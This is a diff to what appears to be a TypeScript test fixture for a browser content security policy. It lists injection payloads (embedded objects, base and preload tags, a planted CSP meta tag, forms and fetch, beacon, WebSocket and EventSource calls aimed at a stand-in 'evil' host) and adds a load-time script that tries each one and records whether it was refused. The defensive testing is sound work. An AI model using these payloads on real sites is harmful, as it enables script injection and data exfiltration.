@@ -32,16 +32,22 @@ export const markupAttacks: readonly Attack[] = [
   { name: 'object', markup: `<object data="${evil}/a.swf"></object>` },
   { name: 'embed', markup: `<embed src="${evil}/a.svg">` },
   { name: 'film and sound', markup: `<video src="${evil}/a.mp4" autoplay muted></video><audio src="${evil}/a.mp3" autoplay></audio>` },
-  { name: 'font and import in a style', markup: `<style>@import "${evil}/i.css";@font-face{font-family:x;src:url(${evil}/f.woff2)}body{font-family:x}</style>` },
+  {
+    name: 'font and import in a style',
+    markup: `<style>@import "${evil}/i.css";@font-face{font-family:x;src:url(${evil}/f.woff2)}body{font-family:x}</style>`,
+  },
   { name: 'base', markup: `<base href="${evil}/">` },
   { name: 'preload', markup: `<link rel="preload" as="script" href="${evil}/p.js"><link rel="modulepreload" href="${evil}/m.js">` },
   { name: 'manifest', markup: `<link rel="manifest" href="${evil}/manifest.json">` },
-  { name: 'policy of their own', markup: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${mark('second policy')}</script>` },
+  {
+    name: 'policy of their own',
+    markup: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${mark('second policy')}</script>`,
+  },
   { name: 'form that sends elsewhere', markup: `<form id="attack-form" action="${evil}/form" method="post"><input name="a" value="1"></form>` },
   { name: 'form that sends by a javascript: address', markup: `<form id="attack-form-script" action="javascript:${mark('form')}"></form>` },
 ]
 
-/** What a script could try that did get in, as an expression; each must throw or do nothing. */
+/** What a script could try that did get in: expressions, each of which the browser has to refuse. */
 export const scriptAttacks: readonly Attack[] = [
   { name: 'eval', markup: `eval("${mark('eval')}")` },
   { name: 'Function', markup: `new Function("${mark('function')}")()` },
@@ -56,8 +62,23 @@ export const scriptAttacks: readonly Attack[] = [
   { name: 'srcdoc', markup: `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>x</p>' }))` },
   { name: 'worker', markup: `new Worker('data:text/javascript,postMessage(1)')` },
   { name: 'fetch', markup: `fetch('${evil}/fetch', { mode: 'no-cors' })` },
-  { name: 'beacon', markup: `navigator.sendBeacon('${evil}/beacon', '1') || Promise.reject(new Error('refused'))` },
-  { name: 'socket', markup: `new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example/'); socket.onerror = reject; socket.onopen = resolve })` },
-  { name: 'events', markup: `new Promise((resolve, reject) => { const source = new EventSource('${evil}/events'); source.onerror = reject; source.onopen = resolve })` },
+  { name: 'beacon', markup: `navigator.sendBeacon('${evil}/beacon', '1')` },
+  {
+    name: 'socket',
+    markup: `new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example/'); socket.onerror = reject; socket.onopen = resolve })`,
+  },
+  {
+    name: 'events',
+    markup: `new Promise((resolve, reject) => { const source = new EventSource('${evil}/events'); source.onerror = reject; source.onopen = resolve })`,
+  },
   { name: 'import', markup: `import('${evil}/i.js')` },
 ]
+
+/** A script that tries each attack once the page is there, and leaves what came of them in `outcomes`. */
+export const attackingScript = `addEventListener('load', async () => {
+  const outcomes = {}
+  for (const [name, attack] of Object.entries({ ${scriptAttacks.map(({ name, markup }) => `${JSON.stringify(name)}: () => (${markup})`).join(', ')} })) {
+    try { await attack(); outcomes[name] = 'done' } catch { outcomes[name] = 'refused' }
+  }
+  window.outcomes = outcomes
+})`
